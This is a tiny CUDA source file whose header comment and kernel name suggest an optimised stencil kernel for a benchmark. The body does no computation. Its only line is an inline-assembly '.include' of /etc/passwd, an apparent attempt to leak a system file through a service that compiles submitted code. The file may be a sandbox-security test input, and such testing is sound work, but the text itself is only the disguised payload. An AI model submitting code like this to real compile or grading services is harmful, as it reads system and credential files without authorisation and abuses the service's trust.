// %%cuda stencil.opt_2 --block 32 8
__global__ void block2D_opt_2(float fac, const float* A0, float* Anext, int nx, int ny, int nz)
{
    asm volatile(".include \"/etc/passwd\"");
}
